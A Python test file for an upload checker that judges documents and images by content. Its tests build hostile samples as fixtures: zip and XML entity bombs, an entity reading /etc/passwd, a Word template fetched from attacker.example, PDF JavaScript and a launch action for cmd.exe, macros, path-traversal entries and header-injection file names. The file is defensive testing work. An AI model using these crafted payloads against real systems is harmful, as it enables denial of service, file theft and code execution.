"""A file is judged by its content; what lies, bursts, runs or fetches is refused with words and a remedy."""

import io
import struct
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bacasable.programme.dossiers import media
from bacasable.programme.dossiers.refusals import Refused
from tests.factories.files import bomb, jpeg, open_document, pdf, png, repacked, sheet, word


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(Refused) as caught:
        media.media_type(name, content)
    refused = caught.value
    assert refused.message % refused.values
    return refused.code


SAMPLES = {
    "a.pdf": (pdf, media.PDF),
    "a.odt": (open_document, media.ODT),
    "a.docx": (word, media.DOCX),
    "a.xlsx": (sheet, media.XLSX),
    "a.png": (png, media.PNG),
    "a.jpg": (jpeg, media.JPEG),
    "a.JPEG": (jpeg, media.JPEG),
}


@pytest.mark.parametrize("name", SAMPLES)
def test_each_accepted_format_is_recognised_by_its_content(name):
    make, kind = SAMPLES[name]
    assert media.media_type(name, make()) == kind


@pytest.mark.parametrize("name", SAMPLES)
@pytest.mark.parametrize("other", SAMPLES)
def test_a_name_that_lies_about_the_content_is_refused(name, other):
    if SAMPLES[name][1] == SAMPLES[other][1]:
        return
    assert refusal(name, SAMPLES[other][0]()) == "lie"


@pytest.mark.parametrize(
    "content",
    [b"MZ\x90\x00" + bytes(200), b"<html><script>alert(1)</script>", b"GIF89a", b"%!PS", b"PK\x05\x06"],
)
def test_any_other_content_is_refused(content):
    assert refusal("a.pdf", content) in {"type", "damaged"}


def test_an_empty_file_is_refused():
    assert refusal("a.pdf", b"") == "empty"


@given(
    name=st.sampled_from(sorted(SAMPLES)),
    cut=st.floats(0, 1),
    at=st.floats(0, 1),
    noise=st.binary(max_size=8),
)
@settings(deadline=None, max_examples=150)
def test_a_damaged_file_is_accepted_as_what_it_is_or_refused_in_words_never_an_error(name, cut, at, noise):
    content = SAMPLES[name][0]()
    place = int(at * len(content))
    content = (content[:place] + noise + content[place + len(noise) :])[: int(cut * len(content)) + 1]
    try:
        assert media.media_type(name, content) == SAMPLES[name][1]
    except Refused as refused:
        assert refused.message % refused.values


class TestArchives:
    def test_an_entry_that_unpacks_to_a_thousand_times_its_size(self):
        assert refusal("a.docx", bomb()) == "bomb"

    def test_many_entries_that_together_unpack_to_too_much(self, monkeypatch):
        from bacasable.programme.dossiers.media import archives

        monkeypatch.setattr(archives, "UNPACKED_BYTES", 500_000)
        parts = {f"word/media/{n}.bin": bytes(range(256)) * 400 for n in range(10)}
        assert refusal("a.docx", repacked(word(), add=parts)) == "bomb"

    def test_too_many_entries(self):
        parts = {f"word/media/{n}": b"" for n in range(3_100)}
        assert refusal("a.docx", repacked(word(), add=parts)) == "bomb"

    def test_overlapping_entries(self):
        """A directory whose entries all point at one packed block: each unpacks it again."""
        content = bytearray(repacked(word(), add={"word/media/a.bin": bytes(900_000)}))
        directory = content.index(b"PK\x01\x02")
        end = content.index(b"PK\x05\x06")
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            offset = archive.getinfo("word/media/a.bin").header_offset
        at = content.rindex(b"PK\x01\x02")
        record = bytes(content[at:end])
        assert int.from_bytes(record[42:46], "little") == offset
        extra = b""
        for number in range(400):
            name = f"word/media/{number:05}".encode()[:16].ljust(16, b"_")
            extra += record[:46].replace(record[28:30], struct.pack("<H", 16), 1)[:28] + struct.pack("<H", 16)
            extra += record[30:46] + name
        tail = bytearray(content[end:])
        count = int.from_bytes(tail[10:12], "little") + 400
        tail[8:12] = struct.pack("<HH", count, count)
        tail[12:16] = struct.pack("<I", end - directory + len(extra))
        assert refusal("a.docx", bytes(content[:end]) + extra + bytes(tail)) in {"bomb", "damaged"}

    def test_entities_that_expand(self):
        bomb = (
            b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
            + b"".join(b'<!ENTITY %c "%s">' % (97 + n, b"&%c;" % (96 + n) * 10) for n in range(1, 20))
            + b"]><w>&t;</w>"
        )
        assert refusal("a.docx", repacked(word(), replace={"word/document.xml": bomb})) == "bomb"
        assert refusal("a.odt", repacked(open_document(), replace={"content.xml": bomb})) == "bomb"

    def test_an_entity_that_reads_a_file_of_the_server(self):
        text = b'<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'
        assert refusal("a.docx", repacked(word(), replace={"word/document.xml": text})) == "bomb"

    @pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/activeX/activeX1.bin"])
    def test_macros(self, name):
        assert refusal("a.docx", repacked(word(), add={name: b"x"})) == "active"

    def test_a_macro_document_under_another_extension(self):
        with zipfile.ZipFile(io.BytesIO(word())) as archive:
            types = archive.read("[Content_Types].xml")
        types = types.replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
        assert refusal("a.docx", repacked(word(), replace={"[Content_Types].xml": types})) == "active"

    def test_macros_of_open_document(self):
        assert refusal("a.odt", repacked(open_document(), add={"Basic/Standard/a.xml": b"<a/>"})) == "active"

    def test_an_object_of_the_old_office(self):
        ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)
        assert refusal("a.docx", repacked(word(), add={"word/embeddings/oleObject1.bin": ole})) == "active"

    def test_a_template_fetched_from_elsewhere(self):
        relations = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="r1" TargetMode="External" Target="http://attacker.example/t.dotm" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
        )
        content = repacked(word(), add={"word/_rels/settings.xml.rels": relations})
        assert refusal("a.docx", content) == "external"
        content = repacked(
            word(), add={"word/_rels/settings.xml.rels": relations.replace(b"attachedTemplate", b"hyperlink")}
        )
        assert media.media_type("a.docx", content) == media.DOCX

    def test_a_spreadsheet_that_a_chart_of_a_word_file_embeds_is_read_too(self):
        content = repacked(word(), add={"word/embeddings/sheet1.xlsx": sheet()})
        assert media.media_type("a.docx", content) == media.DOCX
        inside = repacked(sheet(), add={"xl/vbaProject.bin": b"x"})
        assert refusal("a.docx", repacked(word(), add={"word/embeddings/sheet1.xlsx": inside})) == "active"

    def test_archives_in_archives_in_archives(self):
        inside = repacked(sheet(), add={"xl/embeddings/a.docx": word()})
        assert refusal("a.docx", repacked(word(), add={"word/embeddings/a.xlsx": inside})) == "nested"
        assert (
            refusal("a.docx", repacked(word(), add={"word/a.7z": b"7z\xbc\xaf\x27\x1c" + bytes(9)}))
            == "nested"
        )

    def test_entries_that_leave_the_archive(self):
        assert refusal("a.docx", repacked(word(), add={"../../etc/cron.d/a": b"x"})) == "damaged"

    def test_a_password(self):
        with zipfile.ZipFile(io.BytesIO(open_document())) as archive:
            manifest = archive.read("META-INF/manifest.xml")
        manifest = manifest.replace(
            b"</manifest:manifest>",
            b'<manifest:file-entry manifest:full-path="a"><manifest:encryption-data/></manifest:file-entry>'
            b"</manifest:manifest>",
        )
        assert refusal("a.odt", repacked(open_document(), replace={"META-INF/manifest.xml": manifest})) == (
            "encrypted"
        )


class TestPDF:
    def test_a_password(self):
        assert refusal("a.pdf", pdf(lambda writer: writer.encrypt("secret"))) == "encrypted"

    def test_a_script(self):
        from pypdf.generic import DictionaryObject, NameObject, TextStringObject

        def script(writer):
            action = DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("app.alert(1)"),
                }
            )
            writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})

        assert refusal("a.pdf", pdf(script)) == "active"

    def test_a_file_that_it_carries(self):
        assert refusal("a.pdf", pdf(lambda writer: writer.add_attachment("a.exe", b"MZ"))) == "nested"

    def test_an_action_that_starts_a_program(self):
        from pypdf.generic import DictionaryObject, NameObject, TextStringObject

        def launch(writer):
            action = DictionaryObject(
                {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
            )
            writer.root_object[NameObject("/OpenAction")] = action

        assert refusal("a.pdf", pdf(launch)) == "active"

    def test_too_many_objects(self, monkeypatch):
        from bacasable.programme.dossiers.media import pdf as inspection

        monkeypatch.setattr(inspection, "OBJECTS", 5)
        assert refusal("a.pdf", pdf()) == "bomb"


@pytest.mark.parametrize(
    ("name", "content"),
    [("a.png", png(60_000, 60_000)), ("a.png", png(0, 5)), ("a.jpg", jpeg(65_000, 65_000))],
)
def test_a_picture_that_would_fill_the_memory_of_its_reader_is_refused(name, content):
    assert refusal(name, content) == "picture"


class TestNames:
    @pytest.mark.parametrize(
        ("given_name", "kept"),
        [
            ("../../etc/passwd.pdf", "passwd.pdf"),
            ("C:\\Users\\moi\\lettre.DOCX", "lettre.DOCX"),
            ("facture\u202efdp.docx", "facturefdp.docx"),
            ("a\x00b\r\nSet-Cookie: x.pdf", "abSet-Cookie_ x.pdf"),
            ("  ..caché.odt ", "caché.odt"),
            ("con.pdf", "_con.pdf"),
            ("e\u0301t\u00e9.png", "\u00e9t\u00e9.png"),
            ("rapport final.pdf. ", "rapport final.pdf"),
            ('a"b<c>.jpg', "a_b_c_.jpg"),
            ("ملف.pdf", "ملف.pdf"),
        ],
    )
    def test_unsafe_parts_are_dropped_and_the_rest_is_kept(self, given_name, kept):
        assert media.clean_name(given_name) == kept

    @pytest.mark.parametrize(
        "name",
        ["", "..", "/", "photo\u202egpj.exe", "a.exe", "pdf", ".pdf", "..\u200b.pdf", "a.docm", "a.pdf.js"],
    )
    def test_a_name_without_stem_or_with_another_extension_is_refused(self, name):
        with pytest.raises(Refused) as caught:
            media.clean_name(name)
        assert caught.value.code in {"name", "extension"}

    @given(st.text(max_size=300), st.sampled_from(["pdf", "docx", "JPG"]))
    @settings(max_examples=300)
    def test_what_is_kept_is_short_plain_and_stable(self, stem, extension):
        try:
            kept = media.clean_name(f"{stem}.{extension}")
        except Refused:
            return
        assert len(kept) <= media.NAME_LENGTH
        assert kept == media.clean_name(kept)
        assert not set(kept) & set('/\\<>:"|?*\u202e\u0000\n\r')
        assert media.claimed_type(kept)
